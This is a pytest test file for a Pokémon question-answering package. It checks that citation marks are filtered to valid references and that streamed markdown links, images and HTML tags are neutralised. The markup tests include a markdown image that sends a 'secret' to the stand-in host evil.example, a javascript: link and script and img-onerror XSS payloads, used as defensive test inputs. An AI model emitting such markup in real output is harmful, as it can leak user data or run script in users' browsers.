"""Marks point at this answer's refs, whatever the model writes and however its text is cut into pieces."""

from __future__ import annotations

import random

import pytest

from pokeqa.generation.citations import CitationFilter, with_valid_marks, without_marks
from pokeqa.generation.markup import MarkupFilter, quotable

CASES = [
    ("Mew is known. [1]", "Mew is known. [1]"),
    ("Mew is known. [9]", "Mew is known."),
    ("Mew [9] is known [2].", "Mew is known [2]."),
    ("Mew [1, 2] and [2-3].", "Mew [1][2] and [2][3]."),
    ("Mew [1][7][3].", "Mew [1][3]."),
    ("Mew 【1】。梦幻［2］", "Mew [1]。梦幻[2]"),
    ("Mew【3†source】 is", "Mew[3] is"),
    ("Mew [source 1] and [Ref #2].", "Mew [1] and [2]."),
    ("Mew [0] [00] [1000]", "Mew [1000]"),
    ("A list [of things] stays", "A list [of things] stays"),
    ("An open [ bracket", "An open [ bracket"),
    ("An open [1", "An open [1"),
    ("[1] first", "[1] first"),
    ("[9] first", " first"),
    ("1-50: [1-50]", "1-50:"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "shown"), CASES)
def test_marks_are_put_right(text: str, shown: str):
    assert with_valid_marks(text, {1, 2, 3}) == shown


@pytest.mark.parametrize(("text", "shown"), CASES)
def test_the_pieces_of_a_stream_do_not_matter(text: str, shown: str):
    draw = random.Random(7)
    for _ in range(20):
        cuts = sorted(draw.sample(range(len(text) + 1), min(len(text), 4)))
        marks = CitationFilter({1, 2, 3})
        pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]

        assert "".join(map(marks.feed, pieces)) + marks.flush() == shown


def test_text_is_held_back_only_while_it_may_become_a_mark():
    marks = CitationFilter({1})

    assert marks.feed("Mew is [") == "Mew is"
    assert marks.feed("not") == " [not"
    assert marks.feed(" a mark]") == " a mark]"


def test_it_counts_what_was_cited_and_removed():
    marks = CitationFilter({1, 2})
    marks.feed("A [2] b [1] c [2] d [8] e [9].")

    assert marks.cited == [2, 1]
    assert marks.removed == 2


def test_an_earlier_answer_loses_all_its_marks():
    assert without_marks("Psychic [1]. Yes [2, 3].") == "Psychic. Yes."


# --------------------------------------------------------------------------- Markdown that does nothing


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "[a][1] (http://evil.example)",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "[1](http://evil.example)",
    ],
)
def test_links_images_and_tags_are_broken_however_they_are_cut(text: str):
    for size in (1, 2, 3, len(text)):
        markup = MarkupFilter()
        out = "".join(markup.feed(text[i : i + size]) for i in range(0, len(text), size)) + markup.flush()

        assert "](" not in out
        assert "![" not in out
        assert "<" not in out.replace("\\<", "")


def test_ordinary_markdown_stays():
    text = "**Mew** is _known_ [1]!\n\n- 3 < 5\n- a > b"
    markup = MarkupFilter()

    assert markup.feed(text) + markup.flush() == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See [the list](http://a.example) now", "See the list now"),
        ("![Mew](http://a.example/x.png) is known", "Mew is known"),
        ("<b>Mew</b> is\n known", "Mew is known"),
        ("Speed < 100", "Speed < 100"),
    ],
)
def test_a_quoted_sentence_keeps_its_words_only(text: str, shown: str):
    assert quotable(text) == shown
